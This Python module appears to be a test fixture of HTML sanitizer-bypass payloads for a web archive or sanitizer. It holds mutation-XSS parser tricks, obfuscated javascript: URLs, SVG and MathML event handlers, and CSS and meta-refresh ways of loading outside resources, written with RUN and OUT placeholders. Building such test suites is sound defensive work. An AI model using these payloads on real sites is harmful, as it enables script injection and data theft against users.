"""Payloads in the body of an HTML page. RUN is a script, OUT a site outside the archive (OUTHOST without its scheme), EVIL the
page's own site."""

# ruff: noqa: E501 - a payload is one line

from __future__ import annotations

PAGES = {
    # what one parser takes for text and the other for tags
    "style in svg": '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    "style in mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
    "nested forms": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "title attribute ends noembed": "<noembed><p title='</noembed><img src=x onerror=RUN>'></noembed>",
    "title attribute ends noframes": "<noframes><p title='</noframes><img src=x onerror=RUN>'></noframes>",
    "title attribute ends xmp": "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
    "title attribute ends textarea": "<svg><textarea><p title='</textarea><img src=x onerror=RUN>'></textarea></svg>",
    "title attribute ends title": "<svg><title><p title='</title><img src=x onerror=RUN>'></title></svg>",
    "title attribute ends iframe": "<svg><iframe><p title='</iframe><img src=x onerror=RUN>'></iframe></svg>",
    "title attribute ends noscript": "<svg><noscript><p title='</noscript><img src=x onerror=RUN>'></noscript></svg>",
    "style in noscript": "<noscript><style></noscript><img src=x onerror=RUN></style></noscript>",
    "plaintext in svg": "<svg><plaintext><p title='</plaintext><img src=x onerror=RUN>'>",
    "tag in a select": "<select><style></select><img src=x onerror=RUN></style>",
    "comment that ends early": "<!--><img src=x onerror=RUN>--><!---><img src=x onerror=RUN>--><!-- --!><img src=x onerror=RUN>",
    "comment in an attribute": "<p title='<!--'><img src=x onerror=RUN><p title='-->'>",
    "cdata in svg": "<svg><![CDATA[><img src=x onerror=RUN>]]></svg><math><![CDATA[</math><img src=x onerror=RUN>]]></math>",
    "processing instruction": "<?php echo '><img src=x onerror=RUN>' ?><?xml-stylesheet href='OUT/a.css'?>",
    "doctype": "<!DOCTYPE html PUBLIC '\"><img src=x onerror=RUN>' '><script>RUN</script>'>",
    "second body": "<body><p>x</p><body onload=RUN onpageshow=RUN></body></html><html onclick=RUN><body onload=RUN>",
    "template": "<template><img src=x onerror=RUN></template><div><template shadowrootmode=open><img src=x onerror=RUN></template></div>",
    "foster parent": "<table><tr><img src=x onerror=RUN><a href=javascript:RUN id=go>x</a><style><td></style><script>RUN</script>",
    # attributes that are spelt so that a filter passes over them
    "slashes for spaces": "<img/src=x/onerror=RUN><svg/onload=RUN><input/autofocus/onfocus=RUN>",
    "form feed and null": "<img src=x onerror\x0c=RUN><img src=x \x00onerror=RUN><img src=x on\x00error=RUN><scr\x00ipt>RUN</script>",
    "quote in a name": "<img src=x a\"onerror=RUN b=\"><img src=x ='onerror=RUN'><img src=x \"'onerror=RUN>",
    "prefix in a name": "<img src=x svg:onerror=RUN><svg:script>RUN</svg:script><html:img src=x onerror=RUN><x:script xmlns:x='http://www.w3.org/1999/xhtml'>RUN</x:script>",
    "back ticks": "<img src=`x` onerror=RUN alt=``><p style=`background:url(OUT/a)`>x</p>",
    "events that nobody lists": "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationstart=RUN onanimationend=RUN>x</p>"
    "<div style='content-visibility:auto' oncontentvisibilityautostatechange=RUN>x</div><details open ontoggle=RUN>x</details>",
    "popover": "<button popovertarget=p id=go>x</button><div popover id=p onbeforetoggle=RUN ontoggle=RUN>x</div>",
    "script in an address": "<a href='jav&#x09;ascript:RUN' id=go>x</a>",
    "script in an address by entities": "<a href='&#x6A;avascript&colon;RUN' id=go>x</a>",
    "script in an address after a control": "<a href='\x01javascript:RUN' id=go>x</a>",
    "script in an address over lines": "<a href='java\nscr\tipt:RUN' id=go>x</a>",
    "script in a base": "<base href='javascript:/a/-RUN//'><a href='b' id=go>x</a><img src=x>",
    "script in math": "<math><maction actiontype='statusline' xlink:href='javascript:RUN' id=go><mi>x</mi></maction></math>",
    "script in annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror=RUN><script>RUN</script></annotation-xml></math>",
    "animated link": "<svg><a id=go><animate attributeName=href to=javascript:RUN begin=0s fill=freeze /><text y=20>x</text></a></svg>",
    "animated handler": "<svg onbegin=RUN><animate onbegin=RUN attributeName=x dur=1s /><set attributeName=href onbegin=RUN /><discard onbegin=RUN /></svg>",
    "use with data": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='RUN'/></svg>#x\"/></svg>",
    "script in svg": "<svg><script href='EVIL/run.js'></script><script xlink:href='data:,RUN'></script><script>RUN</script></svg>",
    "foreign object": "<svg><foreignObject><body onload=RUN><script>RUN</script><iframe srcdoc='<script>top.document.title=4711</script>'></foreignObject></svg>",
    "own script": "<script src='/run.js'></script><script src='run.js?x' type=module></script><link rel=modulepreload href=/run.js>",
    "own frames": "<iframe src=/frame.html></iframe><object data=/frame.html type=text/html></object><embed src=/evil.svg type=image/svg+xml>",
    "own frameset": "<frameset onload=RUN><frame src=/frame.html><frame src='javascript:RUN'></frameset>",
    "data frames": "<iframe src='data:text/html;base64,PHNjcmlwdD50b3AuZG9jdW1lbnQudGl0bGU9NDcxMTwvc2NyaXB0Pg=='></iframe><object data='data:image/svg+xml,<svg onload=RUN>'></object>",
    "own images that are more": "<img src=/evil.svg><img src=/frame.html><svg><image href=/evil.svg width=9 height=9 /></svg><video src=/frame.html autoplay onerror=RUN></video>",
    "own sheets": "<link rel=stylesheet href=/evil.css onload=RUN><link rel='alternate stylesheet' title=x href=/evil.css><link rel=stylesheet href=/frame.html>",
    "sheet in data": "<link rel=stylesheet href=\"data:text/css,@import 'OUT/a.css'\"><style>@import url(\"data:text/css,@import 'OUT/b.css'\");</style>",
    "speculation": "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"OUT/a\"]}]}</script><link rel='prerender prefetch' href=OUT/b>",
    "service worker": "<script>navigator.serviceWorker.register('/run.js')</script><link rel=serviceworker href=/run.js scope=/>",
    # addresses outside, by every way to spell one
    "odd slashes": "<img src='https:///OUTHOST/a'><img src='/\\OUTHOST/b'><img src='\\\\OUTHOST/c'><img src='///OUTHOST/d'><img src='http:OUTHOST/e'><img src='http:\nOUTHOST/f'>",
    "odd sets": "<img srcset=',OUT/a 1x,, OUT/b 2x,'><img srcset='OUT/c\t640w ,data:image/png;base64,AA 1x, OUT/d'><picture><source media='(min-width:1px)' srcset='OUT/e'><img></picture>",
    "lazy images": "<img data-src='OUT/a' loading=lazy><img data-srcset='OUT/b 1x'><img src='data:,' data-original='javascript:RUN'>",
    "old backgrounds": "<body background=OUT/a><table background=OUT/b><tr background=OUT/c><td background=OUT/d>x</table><img lowsrc=OUT/e dynsrc=OUT/f>",
    "media": "<video src=OUT/a autoplay muted></video><video poster=OUT/b></video><audio autoplay><source src=OUT/c></audio><video><track default src=OUT/d></video>",
    "plug-ins": "<object data=OUT/a><param name=movie value=OUT/b></object><embed src=OUT/c><applet code=OUT/d archive=OUT/e></applet><object classid=OUT/f></object>",
    "input image": "<form action=OUT/a><input type=image src=OUT/b formaction=OUT/c id=go></form>",
    "forms": "<form id=f action=OUT/a target=_blank></form><input form=f type=submit formtarget=_top formmethod=post id=go>",
    "svg by reference": "<svg><image href=OUT/a /><image xlink:href=OUT/b /><feImage href=OUT/c /><use href='OUT/d#x'/><pattern href='OUT/e#x'/></svg>",
    "svg by attribute": "<svg width=99 height=99><rect width=50 height=50 filter='url(OUT/a#f)' mask='url(OUT/b#m)' clip-path='url(OUT/c#c)' fill='url(OUT/d#g)'/>"
    "<path d='M0 0L9 9' marker-end='url(OUT/e#m)' stroke='url(OUT/f#s)' cursor='url(OUT/g),auto'/></svg>",
    "svg by animation": "<svg width=99 height=99><image width=9 height=9 href=x><set attributeName=href to=OUT/a /></image>"
    "<image width=9 height=9><animate attributeName=href values='OUT/b;OUT/c' dur=1s /></image></svg>",
    "svg by animated style": "<svg width=99 height=99><rect width=50 height=50><set attributeName=filter to='url(OUT/a#f)'/>"
    "<animate attributeName=mask values='url(OUT/b#m);url(OUT/c#m)' dur=1s /></rect></svg>",
    "style functions": "<style>p{background:URL( OUT/a );list-style:u\\rl(OUT/b) inside;border-image:-webkit-image-set(url(OUT/c) 1x)}"
    "p::before{content:image-set('OUT/d' 1x)}p::after{content:-webkit-cross-fade(url(OUT/e),url(OUT/f),50%)}</style><p style='mask:url(OUT/g);filter:url(OUT/h#x)'>x</p>",
    "style by variable": "<style>:root{--a:url(OUT/a);--b:'OUT/b'}p{background:var(--a)}q{background:image-set(var(--b) 1x)}</style><p>x</p><q>x</q>",
    "style by registered variable": "<style>@property --a{syntax:'<url>';inherits:true;initial-value:url(OUT/a)}p{background:var(--a)}</style><p>x</p>",
    "style by attribute value": "<style>p{background:image-set(attr(title) 1x);content:attr(title type(<url>))}</style><p title='OUT/a'>x</p>",
    "imports": "<style>@import\\20'OUT/a';</style><style>@im\\70ort 'OUT/b';</style><style>@import/**/\"OUT/c\"layer(x);</style>"
    "<style>@import url('OUT/d') supports(display:grid) screen;</style><style>@IMPORT url(OUT/e);</style><style>@import src('OUT/f');</style>",
    "import after a clipped string": "<style>p{content:'x\n@import 'OUT/a';}</style><style>/* @import 'OUT/b'; *//**/@import 'OUT/c'</style><style><!-- @import 'OUT/d'; --></style>",
    "fonts": "<style>@font-face{font-family:a;src:local(x),url(OUT/a)format('woff'),url(OUT/b)}@font-face{font-family:b;src:url(//OUTHOST/c)}*{font-family:a,b}</style>x",
    "other rules": "<style>@namespace url(OUT/a);@document url(OUT/b){p{}}@supports(background:url(OUT/c)){p{background:url(OUT/d)}}@media all{@layer x{p{cursor:url(OUT/e),auto}}}p{&:hover,&{background:url(OUT/f)}}</style><p>x</p>",
    "refresh in other words": "<meta http-equiv=' refresh ' content='0 , url = \"OUT/a\"'><meta content='0;OUT/b' http-equiv=REFRESH><meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
    "headers by meta": "<meta http-equiv=Link content='<OUT/a>;rel=preload;as=image'><meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=Set-Cookie content='stolen=1'><meta http-equiv=default-style content=x>",
    "links of all kinds": "<link rel='PREFETCH' href=OUT/a><link rel='icon' href=OUT/b><link rel='apple-touch-icon mask-icon' href=OUT/c><link rel=manifest href=OUT/d><link rel=search href=OUT/e>"
    "<link rel=preload as=font href=OUT/f crossorigin><link rel=preload as=image imagesrcset='OUT/g 1x'><link rel=import href=OUT/h><link rel='dns-prefetch preconnect' href=OUT>",
    "old attributes": "<html manifest=OUT/a profile=OUT/b><p xml:base=OUT/ xlink:href=OUT/c><a href=x ping=OUT/d attributionsrc=OUT/e id=go>x</a><img src=x attributionsrc=OUT/f longdesc=OUT/g>",
    "into our own house": "<img src='EVIL/../../../admin/'><img src='/static/../admin/logout'><a href='/admin/logout' id=go>x</a>",
}  # fmt: skip
